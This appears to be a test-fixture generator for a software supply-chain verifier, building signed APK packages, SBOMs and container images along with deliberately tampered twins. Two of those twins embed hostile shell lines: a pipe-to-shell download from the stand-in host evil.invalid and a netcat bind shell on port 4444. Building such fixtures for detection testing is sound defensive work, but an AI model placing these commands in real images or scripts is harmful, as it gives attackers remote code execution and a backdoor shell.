import { cpSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import type { ImageContext } from './apko-image.js';
import type { ApkSigner, BuiltApk } from './apk-writer.js';
import { writeApkindex } from './apkindex.js';
import type { IdentityName, SigningIdentity } from './identities.js';
import { APK_KEY_NAME, KEY_FILES, loadSampleKeys, ROGUE_KEY_NAME } from './keys.js';
import type { SampleKeys } from './keys.js';
import { melangeSbom } from './melange-sbom.js';
import type { SpdxDocument } from './melange-sbom.js';
import { ARCHES, SAMPLE_PACKAGES } from './packages.js';
import type { ApkArch } from './packages.js';
import { sampleManifest, writeReadmes } from './readmes.js';
import { buildSamplePackage, goJson } from './sample-apks.js';
import { attachSignatures, planImage, requestsOf } from './sample-image.js';
import type { ImageVariant, PlannedImage } from './sample-image.js';
import { batchKey, readCachedBatch } from './sigstore-batch.js';
import type { SigstoreBatch } from './sigstore-batch.js';
import { BACKDOOR_PATH, FORK_REPOSITORY, MODIFIED_PATH, SBOM_CLAIMED_VERSION } from './twins.js';
import { prettyJson, sha1, SOURCE_DATE_EPOCH } from './util.js';

export interface GenerateOptions {
  /** Where the sample world is written (testdata/sample, or a temporary folder in tests). */
  readonly out: string;
  /** Where committed keys and the signing cache are read from (normally the same folder). */
  readonly state: string;
  readonly log: (message: string) => void;
}

const IDENTITIES: Record<IdentityName, SigningIdentity> = {
  sample: { repository: 'vouch-sample/hello', commit: sha1('vouch-sample/hello@main').toString('hex') },
  fork: { repository: FORK_REPOSITORY, commit: sha1(`${FORK_REPOSITORY}@main`).toString('hex') },
};

type PerArch<T> = Record<ApkArch, T>;
const perArch = <T>(fn: (arch: ApkArch) => T): PerArch<T> => ({ x86_64: fn('x86_64'), aarch64: fn('aarch64') });

function write(path: string, bytes: Buffer | string): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, bytes);
}

function buildApks(keys: SampleKeys) {
  const signer: ApkSigner = { keyName: APK_KEY_NAME, privateKey: keys.apk.privateKey };
  const rogue: ApkSigner = { keyName: ROGUE_KEY_NAME, privateKey: keys.rogueApk.privateKey };
  const hello = SAMPLE_PACKAGES.find((p) => p.name === 'hello');
  if (!hello) throw new Error('hello package missing');
  const honest = perArch((arch) => SAMPLE_PACKAGES.map((p) => buildSamplePackage(p, arch, { signer })));
  const sboms = perArch((arch) => SAMPLE_PACKAGES.map((p) => melangeSbom(p, arch)));
  const badSbomHello = perArch((arch) => buildSamplePackage(hello, arch, { signer, claimedVersion: SBOM_CLAIMED_VERSION }));
  const badSbomSboms = perArch((arch) => SAMPLE_PACKAGES.map((p) => melangeSbom(p, arch, p === hello ? { claimedVersion: SBOM_CLAIMED_VERSION } : {})));
  const rogueHello = buildSamplePackage(hello, 'x86_64', { signer: rogue });
  const withBadSbom = perArch((arch) => honest[arch].map((a) => (a.pkginfo.pkgname === 'hello' ? badSbomHello[arch] : a)));
  return { signer, honest, sboms, badSbomHello, badSbomSboms, withBadSbom, rogueHello };
}

async function signingBatch(plans: readonly PlannedImage[], keys: SampleKeys, o: GenerateOptions): Promise<SigstoreBatch> {
  const requests = [...new Map(plans.flatMap(requestsOf).map((r) => [r.id, r])).values()];
  const key = batchKey(requests, IDENTITIES, [keys.cosign.publicPem, keys.fulcio.publicPem, keys.ctlog.publicPem, keys.rekor.publicPem]);
  const cached = readCachedBatch(join(o.state, 'sigstore-cache.json'), key);
  if (cached) return cached;
  o.log(`signing ${requests.length} payloads with the test Sigstore services (signed content changed)`);
  const { runSigningBatch } = await import('./sigstore-mock.js');
  return runSigningBatch(key, requests, IDENTITIES, keys);
}

export async function generateSample(o: GenerateOptions): Promise<void> {
  const created: string[] = [];
  const keys = loadSampleKeys(join(o.state, 'keys'), created);
  for (const name of created) o.log(`created TEST-ONLY key keys/${name} (keys are only ever created when absent)`);
  if (o.out !== o.state) for (const f of KEY_FILES) cpSync(join(o.state, 'keys', f), join(o.out, 'keys', f));
  for (const dir of ['apk', 'image', 'sboms', 'tampered']) rmSync(join(o.out, dir), { recursive: true, force: true });

  const apks = buildApks(keys);
  for (const arch of ARCHES) {
    const list: readonly BuiltApk[] = apks.honest[arch.apk];
    for (const apk of list) write(join(o.out, 'apk', arch.apk, apk.fileName), apk.bytes);
    write(join(o.out, 'apk', arch.apk, 'APKINDEX.tar.gz'), writeApkindex(list, apks.signer, SOURCE_DATE_EPOCH));
  }
  write(join(o.out, 'tampered', 'sbom-version', apks.badSbomHello.x86_64.fileName), apks.badSbomHello.x86_64.bytes);
  write(join(o.out, 'tampered', 'unknown-key', apks.rogueHello.fileName), apks.rogueHello.bytes);

  const ctx: ImageContext = {
    apkKeyName: APK_KEY_NAME,
    apkKeyPem: keys.apk.publicPem,
    world: ['ca-certificates-bundle', 'hello'],
    sourceCommit: IDENTITIES.sample.commit,
  };
  const honest: ImageVariant = { apks: apks.honest, packageSboms: apks.sboms, provenanceFrom: 'sample' };
  const variants: [string, ImageVariant][] = [
    ['image', honest],
    ['tampered/modified-file/image', { ...honest, mutation: { replace: { [MODIFIED_PATH]: '#!/bin/sh\ncurl -s https://evil.invalid/x | sh\necho "Hello, world!"\n' } } }],
    ['tampered/unowned-binary/image', { ...honest, mutation: { add: [{ path: BACKDOOR_PATH, content: '#!/bin/sh\nexec nc -l -p 4444 -e /bin/sh\n', mode: 0o755 }] } }],
    ['tampered/sbom-version/image', { ...honest, apks: apks.withBadSbom, packageSboms: apks.badSbomSboms }],
    ['tampered/provenance-source/image', { ...honest, provenanceFrom: 'fork' }],
    ['tampered/signature-digest/image', { ...honest, signOtherDigest: true }],
  ];
  const plans = variants.map(([dir, v]) => [dir, planImage(v, ctx, IDENTITIES)] as const);
  const batch = await signingBatch(
    plans.map(([, p]) => p),
    keys,
    o,
  );
  for (const [dir, plan] of plans) attachSignatures(plan, batch).write(join(o.out, dir));

  const sample = plans[0]?.[1];
  if (!sample) throw new Error('no sample image');
  for (const [arch, sbom] of Object.entries(sample.sboms)) write(join(o.out, 'sboms', `sbom-${arch}.spdx.json`), goJson(sbom as SpdxDocument));
  write(join(o.out, 'trusted_root.json'), prettyJson(batch.trustedRoot));
  write(join(o.out, 'sigstore-cache.json'), prettyJson(batch));
  const manifest = sampleManifest({ apks: apks.honest, image: sample, twins: Object.fromEntries(plans.map(([dir, p]) => [dir, p])), sourceRepository: IDENTITIES.sample.repository });
  write(join(o.out, 'manifest.json'), prettyJson(manifest));
  writeReadmes(o.out, manifest);
}
